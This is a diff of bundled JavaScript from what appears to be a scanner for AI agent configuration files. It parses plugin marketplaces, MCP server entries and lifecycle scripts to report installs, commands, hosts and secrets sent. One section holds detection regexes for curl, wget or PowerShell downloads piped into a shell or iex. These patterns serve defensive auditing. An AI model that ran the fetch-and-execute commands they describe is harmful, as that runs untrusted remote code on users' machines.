+		skillFolders: parts.flatMap(({ skillFolders = [] }) => skillFolders),
 		follow: new Map(parts.flatMap(({ follow }) => [...follow ?? []]))
 	};
 }
-// src/powers/support/json-comments.ts
-function blankComments(text) {
-	return text.replace(stringOrComment, (token) => token.startsWith("\"") ? token : token.replace(/[^\r\n]/g, " ")).replace(stringOrTrailingComma, (token) => token.startsWith("\"") ? token : ` ${token.slice(1)}`);
+// src/model/words/shown-value.ts
+function shownValue(value) {
+	switch (value.kind) {
+		case "list": return words("a list");
+		case "table": return words("a mapping");
+		case "null": return words("empty");
+		case "string": return valuePart(value.value);
+		default: return {
+			kind: "value",
+			text: value.source
+		};
+	}
 }
-const string = /"[^"\\\n]*(?:\\.[^"\\\n]*)*"?/.source;
-const stringOrComment = new RegExp(`${string}|//[^\\n]*|/\\*[\\s\\S]*?(?:\\*/|$)`, "g");
-const stringOrTrailingComma = new RegExp(`${string}|,\\s*(?=[}\\]])`, "g");
-// src/powers/support/documents.ts
-function readJson(path, text, dialect) {
-	const consequence = sentence(words(dialect.consequence));
-	const fault = (fact, at, help) => ({
-		root: null,
-		faults: [{
-			message: msg`${fact} ${consequence}.`,
-			help,
-			at,
-			isUnreadable: true
-		}]
-	});
-	const bomLength = text.startsWith("\ufeff") ? 1 : 0;
-	const written = text.slice(bomLength);
-	if (written.trim() === "") return fault(msg`The file is empty.`, { path });
-	const { root, faults, duplicates } = parseJson(path, dialect.hasComments ? blankComments(written) : written, bomLength, new LineMap(text));
-	const [syntaxFault] = faults;
-	if (syntaxFault) return fault(syntaxFault.message, syntaxFault.at, syntaxFault.help);
-	if (!(root?.kind === "table" || dialect.acceptsList && root?.kind === "list")) return fault(msg`The file is not a JSON object.`, root?.at ?? { path });
-	const [repeated] = duplicates;
-	if (repeated) return fault(msg`Duplicate key ${code$1(repeated.key)}.`, repeated.keyAt);
+// src/powers/support/fields.ts
+function wrongType(field, value, { expected, consequence }) {
+	const type = typeof expected === "string" ? words(expected) : expected;
 	return {
-		root,
-		faults: []
+		...grantFault(msg`${msg`${code$1(field)} is ${shownValue(value)}, not ${type}.`} ${sentence(words(consequence))}.`, value.at),
+		value: canonical(toJson(value))
 	};
 }
+function grantFault(message, at, help) {
+	return {
+		message,
+		help,
+		at,
+		isUnreadable: false
+	};
+}
+function guardFault(fault, isOfGuard = true) {
+	return {
+		...fault,
+		isOfGuard
+	};
+}
+function stringsOf(value) {
+	if (!value) return [];
+	const list = value.kind === "list" ? value.items : [value];
+	const strings = list.flatMap((item) => item.kind === "string" ? [{
+		text: String(item.value),
+		at: item.at
+	}] : []);
+	return strings.length === list.length ? strings : null;
+}
 // src/powers/support/command-words.ts
-function commandsOf$2(line) {
+function commandsOf$3(line) {
 	const commands = [[]];
 	for (const [, separator, ...word] of line.matchAll(wordOrSeparator)) if (separator !== void 0) commands.push([]);
 	else commands.at(-1)?.push(unquote(word[0] ?? ""));
@@ -11363,7 +11243,7 @@ function pinOf$1(line) {
 		level: "shell",
 		program: line.trim()
 	};
-	const found = commandsOf$2(line).flatMap((words) => findPackage(withoutWrappers(words)) ?? []);
+	const found = commandsOf$3(line).flatMap((words) => findPackage(withoutWrappers(words)) ?? []);
 	if (found.length === 0) return void 0;
 	return {
 		level: found.map(({ level }) => level).reduce((a, b) => pinLevels.indexOf(a) >= pinLevels.indexOf(b) ? a : b),
@@ -11371,9 +11251,9 @@ function pinOf$1(line) {
 	};
 }
 const fetcher = String.raw`(?:curl|wget|irm|iwr|Invoke-RestMethod|Invoke-WebRequest)\b`;
-const shell$1 = String.raw`(?:sudo\s+(?:-\S+\s+)*)?(?:\S*/)?(?:(?:ba|z|da|k|fi)?sh|python\d?|node|perl|ruby|pwsh|iex|Invoke-Expression)\b`;
+const shell$2 = String.raw`(?:sudo\s+(?:-\S+\s+)*)?(?:\S*/)?(?:(?:ba|z|da|k|fi)?sh|python\d?|node|perl|ruby|pwsh|iex|Invoke-Expression)\b`;
 const fetchedText = [
-	new RegExp(String.raw`${fetcher}[^|;\n]{0,2000}\|\s*${shell$1}`, "i"),
+	new RegExp(String.raw`${fetcher}[^|;\n]{0,2000}\|\s*${shell$2}`, "i"),
 	new RegExp(String.raw`(?:\$\(|<\(|\x60)\s*${fetcher}`, "i"),
 	new RegExp(String.raw`(?:iex|Invoke-Expression)\s*\(?\s*\(?${fetcher}`, "i")
 ];
@@ -11388,7 +11268,7 @@ function withoutWrappers(words) {
 	return start === -1 ? [] : words.slice(start);
 }
 // src/powers/support/remote.ts
-function hostOf$1(url) {
+function hostOf$2(url) {
 	const text = url?.replace(/[\t\n\r]/g, "").trim() ?? "";
 	const webText = /^(?:https?|wss?|ftp):/i.test(text) ? text.replaceAll("\\", "/") : text;
 	const [, scheme = "", authority = "", path = ""] = /^([a-z][a-z\d+.-]*:\/\/)([^/?#]+)([^?#\s]*)/i.exec(webText) ?? [];
@@ -11419,9 +11299,9 @@ function connectionOf(scheme) {
 function shortenUrl(url) {
 	return url.replace(/[?#].*$/s, "").trim();
 }
-const variable$1 = /\$\{([A-Za-z_]\w*)(?::-[^}]*)?\}|\$([A-Za-z_]\w*)/g;
+const variable$2 = /\$\{([A-Za-z_]\w*)(?::-[^}]*)?\}|\$([A-Za-z_]\w*)/g;
 function variablesIn$1(value) {
-	return [...value.matchAll(variable$1)].map(([, braced, bare]) => braced ?? bare ?? "");
+	return [...value.matchAll(variable$2)].map(([, braced, bare]) => braced ?? bare ?? "");
 }
 function secretsSent(request, host, names) {
 	return names.flatMap((name) => {
@@ -11453,7 +11333,7 @@ const readers$3 = {
 		const version = sourceOf$2(value, "version");
 		const registry = text$1(get(value, "registry"));
 		return {
-			place: `npm ${sourceOf$2(value, "package")}${registry ? ` from ${hostOf$1(registry).name}` : ""}`,
+			place: `npm ${sourceOf$2(value, "package")}${registry ? ` from ${hostOf$2(registry).name}` : ""}`,
 			revision: version || void 0,
 			level: versionLevel(version)
 		};
@@ -11477,7 +11357,8 @@ const readers$3 = {
 		};
 	},
 	file: () => null,
-	directory: () => null
+	directory: () => null,
+	local: () => null
 };
 function gitSource(value, place) {
 	const sha = sourceOf$2(value, "sha");
@@ -11490,7 +11371,7 @@ function gitSource(value, place) {
 	};
 }
 function addressOf$1(value) {
-	return hostOf$1(text$1(get(value, "url"))).name;
+	return hostOf$2(text$1(get(value, "url"))).name;
 }
 function sourceOf$2(value, key) {
 	return source(get(value, key)) ?? "";
@@ -11523,7 +11404,7 @@ function sourceGrant(source, { subject, at, entry }) {
 			entry,
 			scope: command,
 			pin,
-			trigger: atStart,
+			trigger: atStart$1,
 			remark,
 			at
 		};
@@ -11544,572 +11425,130 @@ function sourceGrant(source, { subject, at, entry }) {
 		trigger: { start: "install" }
 	};
 }
-const atStart = { start: "session" };
-// src/powers/carriers/agents-marketplace.ts
-const example$19 = exampleWriter(listing);
-const known$21 = new Set([
-	"name",
-	"interface",
-	"plugins",
-	"$schema"
-]);
-const entryKeys$1 = new Set(wordList(`
-  name source policy category description interface version tags
-`));
-const agentsMarketplace = {
-	id: "agents-marketplace",
-	title: "`.agents/plugins/marketplace.json`",
-	client: "Codex",
-	extensions: ["json"],
-	fields: [
-		{
-			field: "plugins[].source",
-			kind: "install",
-			description: "offers the plugin of another place"
-		},
-		{
-			field: "plugins[].policy.installation",
-			kind: "settings",
-			description: "`INSTALLED_BY_DEFAULT`: installs the plugin without asking"
-		},
-		{
-			field: "plugins[].policy.installation: NOT_AVAILABLE",
-			kind: "guard",
-			description: "nobody can install the plugin"
-		}
-	],
-	unitOf(path) {
-		const folder = folderOf(path);
-		return nameOf$3(path) === "marketplace.json" && /(?:^|\/)\.agents\/plugins$/.test(folder) ? {
-			kind: "repository",
-			root: folderOf(folderOf(folder))
-		} : null;
-	},
-	read({ path, text: written }) {
-		const { root, faults } = readJson(path, written, { consequence: "Codex offers no plugin of it" });
-		if (!root) return combine$1({ faults });
-		return combine$1({ unread: unreadFields(root, known$21) }, ...items(get(root, "plugins")).map(readEntry$1));
-	},
-	examples: [
-		example$19("install", "url https://git.example/acme/p.git@main", [
-			"{\"name\": \"p\", \"source\": {\"source\": \"url\", \"url\": \"https://git.example/acme/p.git\", \"ref\": \"main\"}}",
-			"{\"name\": \"p\", \"source\": {\"source\": \"local\", \"path\": \"./plugins/p\"}}",
-			"{\"source\": {\"ref\": \"main\", \"url\": \"https://GIT.example/acme/p.git\", \"source\": \"url\"}, \"name\": \"p\"}"
-		]),
-		example$19("settings", "INSTALLED_BY_DEFAULT", ["{\"name\": \"p\", \"source\": \"./p\", \"policy\": {\"installation\": \"INSTALLED_BY_DEFAULT\"}}", "{\"name\": \"p\", \"source\": \"./p\", \"policy\": {\"installation\": \"AVAILABLE\"}}"]),
-		example$19("guard", "NOT_AVAILABLE", ["{\"name\": \"p\", \"source\": \"./p\", \"policy\": {\"installation\": \"NOT_AVAILABLE\"}}", "{\"name\": \"p\", \"source\": \"./p\"}"])
-	]
-};
-function listing(entry) {
-	return { ".agents/plugins/marketplace.json": `{"name": "acme", "plugins": [${entry}]}\n` };
-}
-const policyKeys$2 = new Set([
-	"installation",
-	"authentication",
-	"products"
-]);
-const availabilities = [
-	"NOT_AVAILABLE",
-	"AVAILABLE",
-	"INSTALLED_BY_DEFAULT"
-];
-function readEntry$1(entry) {
-	const name = text$1(get(entry, "name")) ?? "";
-	const subject = `plugin ${name}`;
-	const policy = get(entry, "policy");
-	const installation = get(policy, "installation");
-	const availability = text$1(installation);
-	const written = get(entry, "source");
-	const source = text$1(get(written, "source")) === "local" || /^\.{1,2}\//.test(text$1(get(written, "url")) ?? "") ? null : readSource(written);
-	const at = written?.at ?? entry.at;
-	const scope = `installation of ${subject}: ${availability}`;
-	const isLimit = availability === "NOT_AVAILABLE";
-	const setting = settingGrant(`installation of ${subject}`, scope, {
-		kind: isLimit ? "guard" : "settings",
-		at: installation?.at ?? entry.at
-	});
-	const isSet = availability !== void 0 && availability !== "AVAILABLE";
-	const message = msg`Unknown ${code$1("installation")} ${code$1(availability ?? "")} of plugin ${namePart(name)}.`;
-	const help = msg`Use one of ${list(availabilities.map((known) => code$1(known)))}.`;
-	const plugin = {
-		kind: "plugin",
-		name
-	};
-	const isKnown = availability === void 0 || availabilities.includes(availability);
+const atStart$1 = { start: "session" };
+// src/powers/support/setting-grants.ts
+const inRepository = { start: "enabled" };
+function settingGrant(subject, scope, { at, ...more }) {
 	return {
-		grants: [...sourceGrants(source, {
-			subject,
-			at,
-			entry: plugin
-		}), ...isSet ? [setting] : []],
-		faults: isKnown ? [] : [grantFault(message, installation?.at ?? entry.at, help)],
-		unread: [...unreadFields(entry, entryKeys$1, "plugins[]."), ...unreadFields(policy, policyKeys$2, "plugins[].policy.")]
+		kind: "settings",
+		feature: "setting",
+		reach: "one",
+		subject,
+		scope,
+		trigger: inRepository,
+		at,
+		...more
 	};
 }
-// src/syntax/secret-name.ts
-const secretEndings = wordList(`
-  password passwd passphrase secret secrets token apikey credential credentials
-`);
-const wordsBeforeSecretKey = new Set(wordList(`
-  api private secret access auth ssh deploy signing encryption master account license
-`));
-const wordsBeforePlainToken = new Set(wordList(`
-  max min num per start end stop first last next page bos eos pad mask unk special continuation
-  detokenize
-`));
-const formatWords = new Set([
-	"value",
-	"string",
-	"text",
-	"base64",
-	"b64",
-	"pem"
-]);
-function isSecretName(name) {
-	const words = wordsOf$1(name);
-	while (words.length > 1 && formatWords.has(words.at(-1) ?? "")) words.pop();
-	const last = words.at(-1) ?? "";
-	const previous = words.at(-2) ?? "";
-	if (last === "key" || last === "keys") return wordsBeforeSecretKey.has(previous);
-	if (last === "token" && wordsBeforePlainToken.has(previous)) return false;
-	return secretEndings.some((ending) => last.endsWith(ending));
-}
-function wordsOf$1(name) {
-	return name.slice(0, 200).replace(/([a-z0-9])([A-Z])/g, "$1 $2").toLowerCase().split(/[^\p{L}\p{N}]+/u).map((word) => formatWords.has(word) ? word : word.replace(/\d{1,9}$/, "")).filter((word) => word !== "");
-}
-// src/powers/support/mcp-servers.ts
-const whileEnabled = { start: "enabled" };
-function readServers(value, home) {
-	if (!value) return combine$1();
-	if (value.kind !== "table") return combine$1({ faults: [{
-		...wrongType("mcpServers", value, {
-			expected: "a mapping of servers",
-			consequence: "none of them is started"
-		}),
-		isUnreadable: true
-	}] });
-	return combine$1(...fields(value).map((field) => readServer$1(field, home)));
-}
-function readServer$1({ key, keyAt, value }, home) {
-	const base = {
-		feature: "mcp-server",
-		subject: `server ${key}`,
-		trigger: home.trigger ?? whileEnabled,
-		server: key,
-		entry: {
-			kind: "MCP server",
-			name: key
-		}
+function folderGrant({ text: folder, at }, base) {
+	const path = normalizeFolder(folder);
+	if (/[*?[{]/.test(path)) return {
+		...base,
+		scope: path,
+		reach: "one",
+		at
 	};
-	if (value.kind !== "table") {
-		const fault = wrongType(key, value, {
-			expected: msg`a mapping with ${code$1("command")} or ${code$1("url")}`,
-			consequence: "the client does not start the server"
-		});
-		return combine$1({
-			grants: [{
-				...base,
-				kind: "mcp",
-				scope: key,
-				reach: "unknown",
-				at: keyAt
-			}],
-			faults: [fault]
-		});
+	return {
+		...base,
+		scope: path,
+		reach: "prefix",
+		at
+	};
+}
+function normalizeFolder(folder) {
+	const [, root = "", rest = ""] = /^(\/*)(.*)$/s.exec(folder.trim()) ?? [];
+	const segments = [];
+	for (const segment of rest.split("/")) {
+		if (segment === "" || segment === ".") continue;
+		const last = segments.at(-1);
+		if (segment === ".." && last !== void 0 && last !== ".." && last !== "~") segments.pop();
+		else segments.push(segment);
 	}
-	return combine$1({
-		grants: (value.fields.has("url") || value.fields.has("serverUrl") ? remoteGrants(value) : localGrants(value, key)).map((part) => ({
-			...base,
-			at: keyAt,
-			...part
-		})),
-		faults: serverFaults({
-			key,
-			keyAt,
-			value
-		}, home),
-		unread: [...unreadFields(value, knownKeys$5, `mcpServers.${key}.`), ...unreadValues(value, key)]
+	return `${root}${segments.map((segment) => `${segment}/`).join("")}` || "./";
+}
+function offSwitch(field, prefix, guarding) {
+	if (!field) return {};
+	const { key, value } = field;
+	const name = `${prefix}${key}`;
+	const read = typeof guarding === "boolean" ? flag$1(value) : text$1(value);
+	if (read === void 0) return { faults: [guardFault(wrongSwitch(name, value, guarding))] };
+	if (read !== guarding) return {};
+	return { grants: [settingGrant(name, `${name}: ${read}`, {
+		kind: "guard",
+		at: value.at
+	})] };
+}
+function wrongSwitch(name, value, other) {
+	return wrongType(name, value, {
+		expected: typeof other === "boolean" ? "true or false" : msg`${valuePart(other)}`,
+		consequence: "the client does not use it"
 	});
 }
-const knownKeys$5 = new Set(wordList(`
-  command args env type transport url serverUrl headers headersHelper oauth timeout alwaysLoad cwd
-  envFile disabled tools description
-`));
-function localGrants(server, name) {
-	const command = get(server, "command");
-	const words = [...command?.kind === "list" ? command.items : command ? [command] : [], ...items(get(server, "args"))].map((item) => source(item) ?? "");
-	const line = joinWords(words);
-	const reach = words.length === 0 ? "unknown" : "one";
-	const cwd = text$1(get(server, "cwd"));
-	return [{
-		kind: "mcp",
-		scope: line,
-		reach,
-		pin: pinOf$1(line),
-		command: words,
-		cwd
-	}, ...environmentGrants(server, name)];
-}
-function environmentGrants(server, name) {
-	return fields(get(server, "env")).flatMap(({ key, value }) => {
-		const written = source(value) ?? "";
-		const variables = variablesIn$1(written);
-		const setting = {
-			kind: "settings",
-			feature: "setting",
-			reach: "one",
-			at: value.at
-		};
-		if (variables.length === 0) {
-			const subject = `env ${key} of ${name}`;
-			return isSecretName(key) ? [] : [{
-				...setting,
-				subject,
-				scope: `env ${key}=${written}`
-			}];
-		}
-		return variables.map((variable) => ({
-			kind: "secret",
-			feature: "secret",
-			scope: `\${${variable}} to the server`,
-			variable,
-			reach: "one",
-			at: value.at
-		}));
-	});
-}
-function unreadValues(server, name) {
-	return [
-		...fields(get(server, "env")).filter(({ key }) => isSecretName(key)).map((field) => ({
-			path: `env.${field.key}`,
-			field
-		})),
-		...fields(get(server, "headers")).map((field) => ({
-			path: `headers.${field.key}`,
-			field
-		})),
-		...(server.kind === "table" ? [...server.fields.values()] : []).filter(({ key }) => restKeys.has(key)).map((field) => ({
-			path: field.key,
-			field
-		}))
-	].filter(({ field }) => variablesIn$1(source(field.value) ?? "").length === 0).map(({ path, field: { keyAt, value } }) => ({
-		field: `mcpServers.${name}.${path}`,
-		value: canonical(toJson(value)),
-		at: keyAt,
-		subject: `server ${name}`
+// src/powers/table/row.ts
+function grants$1(kind, field, description, more = {}) {
+	return field.split(", ").map((path) => ({
+		...more,
+		field: path,
+		kind,
+		description
 	}));
 }
-const restKeys = new Set([
-	"cwd",
-	"envFile",
-	"oauth",
-	"tools"
-]);
-function remoteGrants(server) {
-	const { name, isKnown, connection } = hostOf$1(text$1(get(server, "url") ?? get(server, "serverUrl")));
-	const helper = text$1(get(server, "headersHelper"));
-	const helperLine = helper === void 0 ? [] : [helper];
-	return [
-		{
-			kind: "mcp",
-			scope: name,
-			reach: isKnown ? "one" : "unknown",
-			connection
-		},
-		...secretsSent(server, name, ["headers", "url"]),
-		...helperLine.map((line) => ({
-			kind: "run",
-			feature: "helper-command",
-			reach: "one",
-			scope: line.trim(),
-			pin: pinOf$1(line),
-			command: line
-		}))
-	];
+function harmless$1(fields) {
+	return wordList(fields).map((field) => ({
+		field,
+		kind: null,
+		description: ""
+	}));
 }
-function serverFaults({ key, keyAt, value }, { needsType }) {
-	const url = get(value, "url");
-	const command = get(value, "command");
-	if (!url && !command && !get(value, "serverUrl")) return [grantFault(msg`MCP server ${namePart(key)} has neither ${code$1("command")} nor ${code$1("url")}.`, keyAt)];
-	if (url && needsType && !get(value, "type")) return [grantFault(msg`MCP server ${namePart(key)} has no ${code$1("type")}. Claude Code skips it.`, keyAt, msg`Add ${code$1("\"type\": \"http\"")}.`)];
-	return [];
+function within(field, rows) {
+	return rows.map((row) => ({
+		...row,
+		field: `${field}.${row.field}`
+	}));
 }
-// src/powers/clients/client-servers.ts
-function readClientServers(value, home) {
-	if (value?.kind !== "table") return readServers(value, home);
-	const active = fields(value).filter(({ value: server }) => !isOff(server));
-	return combine$1(readServers(tableOf$1(value, active.map((field) => ({
-		...field,
-		value: inClaudeSpelling(field.value)
-	}))), home), ...active.map((field) => ({ grants: toolLimits(field, home) })));
+function inlineRows(key, rows) {
+	const others = [
+		`${key}[]`,
+		`${key}.${key}`,
+		`${key}[].${key}`
+	].flatMap(rows);
+	return [...rows(key), ...others.map((row) => ({
+		...row,
+		example: void 0
+	}))];
 }
-function isOff(server) {
-	return flag$1(get(server, "enabled")) === false || flag$1(get(server, "disabled")) === true;
+// src/powers/support/json-comments.ts
+function blankComments(text) {
+	return text.replace(stringOrComment, (token) => token.startsWith("\"") ? token : token.replace(/[^\r\n]/g, " ")).replace(stringOrTrailingComma, (token) => token.startsWith("\"") ? token : ` ${token.slice(1)}`);
 }
-const spellings$1 = new Map([
-	["environment", "env"],
-	["httpUrl", "url"],
-	["http_headers", "headers"]
-]);
-const silent$1 = new Set(wordList(`
-  enabled disabled required startup_timeout_sec startup_timeout_ms tool_timeout_sec enabled_tools
-  disabled_tools includeTools excludeTools tools bearer_token_env_var env_http_headers name
-  gallery version dev scopes startup_readiness authProviderType supports_parallel_tool_calls
-  registry
-`));
-function inClaudeSpelling(server) {
-	if (server.kind !== "table") return server;
-	const own = fields(server).filter(({ key }) => !silent$1.has(key)).map((field) => {
-		const key = spellings$1.get(field.key) ?? field.key;
-		return {
-			...field,
-			key,
-			value: withVariables(field.value)
-		};
+const string$1 = /"[^"\\\n]*(?:\\.[^"\\\n]*)*"?/.source;
+const stringOrComment = new RegExp(`${string$1}|//[^\\n]*|/\\*[\\s\\S]*?(?:\\*/|$)`, "g");
+const stringOrTrailingComma = new RegExp(`${string$1}|,\\s*(?=[}\\]])`, "g");
+// src/powers/support/documents.ts
+function readJson$1(path, text, dialect) {
+	const consequence = sentence(words(dialect.consequence));
+	const fault = (fact, at, help) => ({
+		root: null,
+		faults: [{
+			message: msg`${fact} ${consequence}.`,
+			help,
+			at,
+			isUnreadable: true
+		}]
 	});
-	const sent = sentVariables(server);
-	if (sent.length === 0) return tableOf$1(server, own);
-	const headers = own.find(({ key }) => key === "headers");
-	const others = own.filter(({ key }) => key !== "headers");
-	const [first] = sent;
-	const all = tableOf$1(headers?.value ?? first.value, [...fields(headers?.value), ...sent]);
-	return tableOf$1(server, [...others, {
-		key: "headers",
-		keyAt: first.keyAt,
-		value: all
-	}]);
-}
-function sentVariables(server) {
-	const token = server.kind === "table" ? server.fields.get("bearer_token_env_var") : void 0;
-	return [...token ? [token] : [], ...fields(get(server, "env_http_headers"))].flatMap((field) => {
-		const name = text$1(field.value);
-		if (name === void 0 || field.value.kind !== "string") return [];
-		return [{
-			...field,
-			key: `$${field.key}`,
-			value: {
-				...field.value,
-				value: `\${${name}}`
-			}
-		}];
-	});
-}
-const variable = /\$\{\{\s*(?:secrets|vars|env)\.(\w+)\s*\}\}|\$?\{env:(\w+)\}/g;
-function withVariables(value) {
-	if (value.kind === "table") return tableOf$1(value, fields(value).map((field) => ({
-		...field,
-		value: withVariables(field.value)
-	})));
-	if (value.kind !== "string") return value;
-	const written = String(value.value).replace(variable, (_, braced, plain) => `\${${braced ?? plain}}`);
+	const bomLength = text.startsWith("\ufeff") ? 1 : 0;
+	const written = text.slice(bomLength);
+	if (written.trim() === "") return fault(msg`The file is empty.`, { path });
+	const { root, faults, duplicates } = parseJson(path, dialect.hasComments ? blankComments(written) : written, bomLength, new LineMap(text));
+	const [syntaxFault] = faults;
+	if (syntaxFault) return fault(syntaxFault.message, syntaxFault.at, syntaxFault.help);
+	if (!(root?.kind === "table" || dialect.acceptsList && root?.kind === "list")) return fault(msg`The file is not a JSON object.`, root?.at ?? { path });
+	const [repeated] = duplicates;
+	if (repeated) return fault(msg`Duplicate key ${code$1(repeated.key)}.`, repeated.keyAt);
 	return {
-		...value,
-		value: written
+		root,
+		faults: []
 	};
-}
-function tableOf$1(at, list) {
-	return {
-		kind: "table",
-		at: at.at,
-		fields: new Map(list.map((field) => [field.key, field]))
-	};
-}
-function toolLimits({ key, value }, home) {
-	const trigger = home.trigger ?? whileEnabled;
-	const subject = `tools of server ${key}`;
-	const allowed = [
-		"enabled_tools",
-		"includeTools",
-		"tools"
-	].flatMap((name) => {
-		const list = get(value, name);
-		return list?.kind === "list" ? [list] : [];
-	});
-	const denied = ["disabled_tools", "excludeTools"].flatMap((name) => items(get(value, name)));
-	const limits = allowed.filter((list) => !list.items.some((item) => source(item) === "*"));
-	const base = {
-		feature: "setting",
-		trigger,
-		reach: "one"
-	};
-	return [
-		...limits.map((list) => {
-			const scope = `only listed tools of server ${key}`;
-			return {
-				...base,
-				kind: "guard",
-				subject,
-				scope,
-				at: list.at
-			};
-		}),
-		...limits.flatMap((list) => list.items.map((item) => {
-			const scope = `${key} / ${source(item) ?? ""}`;
-			return {
-				...base,
-				kind: "mcp",
-				subject,
-				scope,
-				at: item.at
-			};
-		})),
-		...denied.map((item) => {
-			const scope = `not ${key} / ${source(item) ?? ""}`;
-			return {
-				...base,
-				kind: "guard",
-				subject,
-				scope,
-				at: item.at
-			};
-		})
-	];
-}
-// src/powers/clients/apm-dependencies.ts
-function readDependency(entry) {
-	const [place = "", ownRef] = (source(entry) ?? addressOf(entry)).split(/#(.*)/s);
-	const ref = source(get(entry, "ref")) ?? ownRef ?? "";
-	if (/^\.{0,2}\//.test(place) || place === "" && text$1(get(entry, "path")) !== void 0) return {};
-	return { grants: [{
-		kind: "install",
-		feature: "source",
-		subject: `package ${place}`,
-		scope: ref === "" ? place : `${place}#${ref}`,
-		reach: place === "" ? "unknown" : "one",
-		pin: {
-			level: levelOf$1(ref),
-			program: place,
-			revision: ref || void 0
-		},
-		entry: {
-			kind: "package",
-			name: place
-		},
-		trigger: { start: "install" },
-		at: entry.at
-	}] };
-}
-function addressOf(entry) {
-	const address = source(get(entry, "git")) ?? source(get(entry, "repo")) ?? "";
-	const path = source(get(entry, "path"));
-	return address !== "" && path ? `${address}/${path}` : address;
-}
-function levelOf$1(ref) {
-	if (/^[\da-f]{40}$/i.test(ref)) return "digest";
-	return /^v?\d+\.\d+\.\d+/.test(ref) ? versionLevel(ref.replace(/^v/, "")) : "mutable";
-}
-function readServer(entry, unit) {
-	const name = source(entry) ?? source(get(entry, "name"));
-	const isOwn = get(entry, "command") !== void 0 || get(entry, "url") !== void 0;
-	if (name !== void 0 && isOwn) {
-		const field = {
-			key: name,
-			keyAt: entry.at,
-			value: entry
-		};
-		return readClientServers({
-			kind: "table",
-			at: entry.at,
-			fields: new Map([[name, field]])
-		}, { unit });
-	}
-	const version = source(get(entry, "version")) ?? "";
-	return { grants: [{
-		kind: "mcp",
-		feature: "mcp-server",
-		subject: `server ${name ?? ""}`,
-		at: entry.at,
-		scope: version === "" ? name ?? "" : `${name}@${version}`,
-		remark: "from the registry",
-		reach: name === void 0 ? "unknown" : "one",
-		trigger: { start: "enabled" },
-		entry: {
-			kind: "MCP server",
-			name: name ?? ""
-		},
-		pin: {
-			level: versionLevel(version),
-			program: name ?? ""
-		}
-	}] };
-}
-// src/powers/clients/apm-lifecycle.ts
-function readScripts(value) {
-	return combine$1({ grants: fields(value).map(({ key, value: script }) => {
-		const line = text$1(script)?.trim();
-		return {
-			kind: "run",
-			feature: "helper-command",
-			scope: line ?? key,
-			subject: `scripts.${key}`,
-			reach: line === void 0 ? "unknown" : "one",
-			trigger: { start: "typed" },
-			pin: pinOf$1(line ?? ""),
-			command: line,
-			at: script.at
-		};
-	}) });
-}
-function readLifecycle(value) {
-	if (!value || value.kind === "null") return combine$1();
-	if (value.kind !== "table") return combine$1({ faults: [{
-		...wrongType("lifecycle", value, {
-			expected: "a mapping of events",
-			consequence: "apm runs none of them"
-		}),
-		isUnreadable: true
-	}] });
-	return combine$1(...fields(value).map((field) => readEvent$2(field)));
-}
-const entryKeys = new Set(wordList(`
-  type run command url headers timeout name method
-`));
-function readEvent$2({ key, value }) {
-	return combine$1(...(value.kind === "list" ? items(value) : [value]).map((entry) => ({
-		grants: entryGrants(key, entry),
-		unread: unreadFields(entry, entryKeys, `lifecycle.${key}[].`)
-	})));
-}
-function entryGrants(event, entry) {
-	const base = {
-		feature: "helper-command",
-		subject: event,
-		trigger: {
-			start: "install",
-			event
-		}
-	};
-	const url = get(entry, "url");
-	if (url) {
-		const { name, isKnown } = hostOf$1(text$1(url));
-		const net = {
-			...base,
-			kind: "net",
-			feature: "setting",
-			scope: name,
-			at: url.at
-		};
-		const secrets = secretsSent(entry, name, ["headers", "url"]);
-		return [{
-			...net,
-			reach: isKnown ? "one" : "unknown"
-		}, ...secrets.map((secret) => ({
-			...secret,
-			subject: event,
-			trigger: base.trigger
-		}))];
-	}
-	const command = get(entry, "run") ?? get(entry, "command") ?? entry;
-	const line = text$1(command)?.trim();
-	return [{
-		...base,
-		kind: "run",
-		scope: line ?? "",
-		reach: line === void 0 ? "unknown" : "one",
-		pin: pinOf$1(line ?? ""),
-		command: line,
-		at: command.at
-	}];
 }
 // src/syntax/toml/tokens.ts
 function* tomlTokens(text) {
@@ -12440,7 +11879,7 @@ function parseToml(path, text) {
 	}
 	const { ParseError, parseTOML } = (0, import_packages.tomlPackage)();
 	try {
-		const reader = new Reader$2(source, locate);
+		const reader = new Reader$3(source, locate);
 		const root = reader.document(parseTOML(source).body[0]);
 		return reader.fault ? parseFailure(reader.fault) : {
 			root,
@@ -12465,7 +11904,7 @@ function parseToml(path, text) {
 		});
 	}
 }
-var Reader$2 = class {
+var Reader$3 = class {
 	fault = null;
 	merges = [];
 	#text;
@@ -12475,7 +11914,7 @@ var Reader$2 = class {
 		this.#locate = locate;
 	}
 	document(node) {
-		const root = table$1(this.#locate(0, 0));
+		const root = table$2(this.#locate(0, 0));
 		for (const entry of node.body) if (entry.type === "TOMLKeyValue") this.#pair(entry, root, 0);
 		else this.#section(entry, root);
 		return root;
@@ -12488,9 +11927,9 @@ var Reader$2 = class {
 		const at = this.#locationOf(node.key);
 		const name = nameOf$2(lastKey);
 		const existing = parent.fields.get(name)?.value;
-		let target = existing?.kind === "table" ? existing : table$1(at);
+		let target = existing?.kind === "table" ? existing : table$2(at);
 		if (node.kind === "array") {
-			target = table$1(at);
+			target = table$2(at);
 			const items = existing?.kind === "list" ? existing.items : [];
 			items.push(target);
 			if (!existing) this.#put(parent, lastKey, {
@@ -12516,7 +11955,7 @@ var Reader$2 = class {
 			const child = existing?.kind === "list" ? existing.items.at(-1) : existing;
 			if (child?.kind === "table") parent = child;
 			else {
-				const next = table$1(this.#locationOf(key));
+				const next = table$2(this.#locationOf(key));
 				this.#put(parent, key, next);
 				parent = next;
 			}
@@ -12533,11 +11972,11 @@ var Reader$2 = class {
 				at
 			};
 			case "TOMLInlineTable": {
-				const child = table$1(at);
+				const child = table$2(at);
 				for (const pair of node.body) this.#pair(pair, child, depth);
 				return child;
 			}
-			default: return scalar$1(jsonOf(node), this.#source(node), at);
+			default: return scalar$2(jsonOf(node), this.#source(node), at);
 		}
 	}
 	#put(parent, key, value) {
@@ -12569,10 +12008,10 @@ var Reader$2 = class {
 			message: tooDeepMessage,
 			at
 		};
-		return table$1(at);
+		return table$2(at);
 	}
 };
-function table$1(at) {
+function table$2(at) {
 	return {
 		kind: "table",
 		fields: new Map(),
@@ -12588,7 +12027,7 @@ function jsonOf(node) {
 	if (kind === "float") return Number.isInteger(value) ? NaN : value;
 	return value instanceof Date ? NaN : value;
 }
-// src/powers/clients/parsed-documents.ts
+// src/powers/support/parsed-documents.ts
 function readToml(path, text, consequence) {
 	return documentOf(parseToml(path, text), path, consequence);
 }
@@ -12620,203 +12059,1753 @@ function documentOf({ root, faults, duplicates }, path, consequence) {
 		faults: []
 	};
 }
